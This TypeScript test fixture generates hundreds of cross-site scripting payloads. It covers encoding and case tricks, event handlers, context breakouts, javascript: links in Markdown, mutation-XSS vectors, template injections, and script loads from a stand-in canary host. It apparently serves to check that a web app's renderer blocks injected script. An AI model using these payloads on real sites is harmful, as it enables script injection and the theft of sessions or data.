// What people have tried elsewhere to make a page run what they typed. Each calls `__ran(n)` or fetches from a canary if it
// succeeds, and has a plain word, so that a test sees that it was shown at all.

export interface Payload {
  text: string;
  /** The word that stands in it, whatever becomes of the rest. */
  word: string;
}

const CANARY = "https://canary.example";

type Make = (run: string, n: number) => string;

const events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "ontoggle", "onanimationstart",
  "onbegin", "onpageshow", "oncopy", "onauxclick", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange"];

const elements: Make[] = [
  (run) => `<img src=x ${run}>`, (run) => `<svg ${run}>`, (run) => `<body ${run}>`, (run) => `<details open ${run}>`,
  (run) => `<input autofocus ${run}>`, (run) => `<video src=x ${run}>`, (run) => `<marquee ${run}>`,
  (run) => `<a href=# tabindex=1 ${run}>`, (run) => `<x ${run} tabindex=1>`,
];

/** Every event on every element. */
const handlers: Make[] = events.flatMap((event) => elements.map((element): Make => (_, n) => element(`${event}=__ran(${n})`, n)));

const scripts: Make[] = [
  (run) => `<script>${run}</script>`, (run) => `<SCRIPT>${run}</SCRIPT>`, (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script\n>${run}</script\n>`, (run) => `<script/x>${run}</script>`, (run) => `<script type=module>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`, (run) => `<<script>${run}//<</script>`,
  (run) => `<script>${run}`, (run) => `<script x=">" >${run}</script>`, (_, n) => `<script src=${CANARY}/${n}.js></script>`,
  (_, n) => `<script src="data:text/javascript,__ran(${n})"></script>`, (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script>${run.replace("(", "&lpar;")}</script></svg>`, (run) => `<math><script>${run}</script></math>`,
  (run) => `\u200b<script>${run}</script>`, (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

const breakouts: Make[] = [
  `</script>`, `</textarea>`, `</title>`, `</style>`, `</noscript>`, `</template>`, `</select>`, `</option>`, `</svg>`, `</math>`,
  `-->`, `--!>`, `]]>`, `">`, `'>`, "`>", `"/>`, `" `, `' `, `</p>`, `</pre></code>`, `</leptos-island>`, `*/`, `?>`, `<!--`,
  `<![CDATA[`, `<plaintext>`, `<xmp>`, `<noembed>`, `<noframes>`,
].flatMap((out): Make[] => [
  (_, n) => `${out}<img src=x onerror=__ran(${n})>`,
  (run) => `${out}<script>${run}</script>`,
]).concat([
  (run) => `" onmouseover="${run}" x="`, (run) => `' onmouseover='${run}' x='`, (run) => "` onmouseover=`" + run + "` x=`",
  (run) => `" autofocus onfocus="${run}`, (run) => `x" style="animation-name:x" onanimationstart="${run}`,
  (run) => `";${run};//`, (run) => `';${run};//`, (run) => `\\";${run};//`, (run) => "${" + run + "}", (run) => "`${" + run + "}`",
  (run) => `{{constructor.constructor('${run}')()}}`, (run) => `{{${run}}}`, (run) => `#{${run}}`, (run) => `<%= ${run} %>`,
  (run) => `{"__proto__":{"onload":"${run}"}}`, (run) => `__proto__[innerHTML]=<img src=x onerror=${run}>`,
]);

const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;",
  "&#106;avascript:", "&#x6A;avascript:", "javascript&#58;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:",
  "//canary.example/", "feed:javascript:", "view-source:javascript:", "javascript://%0a"];

const links: Make[] = schemes.flatMap((scheme): Make[] => [
  (run) => `[word](${scheme}${run})`,
  (run) => `[word](<${scheme}${run}>)`,
  (run) => `![word](${scheme}${run})`,
  (run) => `<${scheme}${run}>`,
  (run, n) => `[word][r${n}]\n\n[r${n}]: ${scheme}${run}`,
  (run) => `<a href="${scheme}${run}">word</a>`,
]).concat([
  (run) => `[word](x "${'"'} onmouseover=${run}")`, (run) => `[word](x 'a" onmouseover=${run} b="')`,
  (run) => `![word](x" onerror="${run})`, (run) => `![" onerror="${run}](x)`, (run) => `[<img src=x onerror=${run}>](x)`,
  (run) => `[word](x\n"title" onclick=${run})`, (run) => `<https://x/" onmouseover="${run}>`,
  (run) => `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | word |`,
  (run) => "```html\"><img src=x onerror=" + run + ">\nword\n```", (run) => "```<script>" + run + "</script>\nword\n```",
  (run) => "`<img src=x onerror=" + run + ">`", (run) => `~~~ " onclick="${run}\nword\n~~~`,
]);

const others: Make[] = [
  (run) => `<iframe src="javascript:${run}"></iframe>`, (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_, n) => `<object data="${CANARY}/${n}"></object>`, (_, n) => `<embed src="${CANARY}/${n}">`, (_, n) => `<base href="${CANARY}/${n}/">`,
  (_, n) => `<meta http-equiv=refresh content="0;url=${CANARY}/${n}">`, (_, n) => `<link rel=stylesheet href="${CANARY}/${n}.css">`,
  (_, n) => `<style>@import url(${CANARY}/${n}.css);</style>`, (_, n) => `<style>*{background:url(${CANARY}/${n})}</style>`,
  (_, n) => `<form action="${CANARY}/${n}"><button>word</button></form>`, (run) => `<form><button formaction="javascript:${run}">word</button></form>`,
  (run) => `<form id=x></form><button form=x formaction="javascript:${run}">word</button>`, (run) => `<isindex type=image src=1 onerror=${run}>`,
  (run) => `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}" /><a id=x><text x=20 y=20>word</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}' /></svg>#x" /></svg>`,
  (run) => `<math><mi xlink:href="javascript:${run}">word</mi></math>`, (run) => `<svg><a xlink:href="javascript:${run}"><text>word</text></a></svg>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`, (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<img name=getElementById><img id=body><form id=hydrate name=querySelector>word ${run}</form>`,
  (run) => `<a id=__ran href="javascript:${run}">word</a>`, (run) => `<div style="background:url(javascript:${run})">word</div>`,
  (run) => `<div style="width:expression(${run})">word</div>`, (_, n) => `<div style="background:url(${CANARY}/${n})">word</div>`,
  (run) => `\u202e<img src=x onerror=${run}>\u202c`, (run) => `<img src="x\u00a0" onerror=${run}>`, (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img\u000csrc=x\u000conerror=${run}>`, (run) => `<image src=x onerror=${run}>`, (run) => `<img src=x onerror\n=\n${run}>`,
  (run) => `<img src=x onerror="${run.replace("_", "&#95;")}">`, (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<leptos-island data-component="Room" data-props='{"x":"${run}"}'><img src=x onerror=${run}></leptos-island>`,
  (run) => `<div popover id=x onbeforetoggle=${run}>word</div><button popovertarget=x>word</button>`,
  (run) => `<dialog open onclose=${run}><form method=dialog><button>word</button></form></dialog>`,
  (run) => `<input type=hidden oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`,
  (run) => `<details ontoggle=${run} open>word</details>`, (run) => `<portal src="javascript:${run}"></portal>`,
  (run) => `<a href=x download=x ping="${CANARY}" onclick=${run}>word</a>`, (run) => `${"a".repeat(60)}<img src=x onerror=${run}>`,
];

export const payloads: Payload[] = [...scripts, ...handlers, ...breakouts, ...links, ...others].map((make, n) => {
  const word = `shown${n}z`;
  return { text: `${word} ${make(`__ran(${n})`, n)}`, word };
});
